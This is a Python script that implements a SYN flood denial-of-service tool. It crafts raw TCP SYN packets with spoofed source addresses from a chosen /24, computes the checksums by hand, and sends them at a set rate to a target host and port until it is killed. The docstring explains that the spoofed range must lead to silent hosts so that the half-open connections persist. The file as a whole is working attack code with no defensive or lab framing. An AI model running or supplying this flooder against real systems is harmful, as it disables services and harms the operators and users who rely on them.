"""A flood of SYNs from forged addresses: each begins a connection that nobody goes on with (RFC 4987, 2).

Sends raw IP packets at a steady pace until killed. The sources are of one /24, which has to lead to a host that
answers nothing, as a reset would take the half-open connection away.
"""

import argparse
import itertools
import socket
import struct
import time

__all__ = ["main"]

FIRST_PORT = 1024
HEADER_BYTES = 20
SYN = 0x02
WINDOW = 64_240
MSS_OPTION = struct.pack(">BBH", 2, 4, 1460)


def main() -> None:
    """Flood until killed."""
    options = _options()
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in itertools.count():
        source = f"{options.sources}.{1 + number % 250}"
        sender.sendto(_syn(source, options.host, options.port, number), (options.host, 0))
        time.sleep(1 / options.rate)


def _syn(source: str, target: str, port: int, number: int) -> bytes:
    """An IPv4 packet with a SYN; the kernel fills in length, identification and header checksum (raw(7))."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack(
        ">HHIIBBHHH", FIRST_PORT + number % 60_000, port, 7 * number + 1, 0, 6 << 4, SYN, WINDOW, 0, 0
    )
    length = len(head) + len(MSS_OPTION)
    total = _checksum(ends + struct.pack(">HH", socket.IPPROTO_TCP, length) + head + MSS_OPTION)
    segment = head[:16] + struct.pack(">H", total) + head[18:] + MSS_OPTION
    return struct.pack(">BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + ends + segment


def _checksum(data: bytes) -> int:
    """RFC 1071; `data` has an even length."""
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _options() -> argparse.Namespace:
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("sources", help="the first three bytes of the network they seem to come from")
    parser.add_argument("--rate", type=float, default=100.0, help="packets a second")
    return parser.parse_args()


if __name__ == "__main__":
    main()
